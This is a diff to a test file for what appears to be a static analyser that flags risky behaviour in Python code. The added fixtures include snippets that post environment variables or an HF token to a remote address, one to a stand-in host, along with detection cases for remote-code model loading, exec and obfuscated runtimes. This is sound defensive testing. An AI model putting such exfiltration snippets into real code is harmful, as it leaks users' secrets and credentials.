@@ -137,6 +137,12 @@ describe('where values come from', () => {
       'a token of the environment',
       'import os, requests\nrequests.post("x", json={"t": os.environ["HF_TOKEN"]})',
     ],
+    [
+      'environment',
+      'the whole environment',
+      'import os, requests\nrequests.get(f"https://example.invalid/?e={os.environ}")',
+    ],
+    ['environment', 'the environment as a dictionary', 'import os, requests\nrequests.post("x", json={**os.environ})'],
     ['environment', 'the environment', 'import os, requests\nrequests.post("x", json=dict(os.environ.items()))'],
   ])('%s: %s', async (from, _, code) => {
     const found = await effects(code);
@@ -162,6 +168,15 @@ describe('what else acts', () => {
     ['import deserialise-weights numpy.load', 'import numpy as np\nnp.load("x", allow_pickle=True)'],
     ['import deserialise yaml.load', 'import yaml\nyaml.load(x, Loader=yaml.Loader)'],
     ['import native ctypes.CDLL', 'from ctypes import CDLL\nCDLL("x")'],
+    [
+      'import remote-code from_pretrained',
+      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)',
+    ],
+    ['import evaluate exec', '__builtins__["exec"]("x")'],
+    [
+      'import evaluate pyarmor_runtime_0.__pyarmor__',
+      'from pyarmor_runtime_0 import __pyarmor__\n__pyarmor__(__name__, __file__, b"x")',
+    ],
     ['import remote-code torch.hub.load', 'import torch\ntorch.hub.load("a/b", "c")'],
     ['import evaluate exec', 'exec "x"'],
   ])('%s', async (effect, code) => {
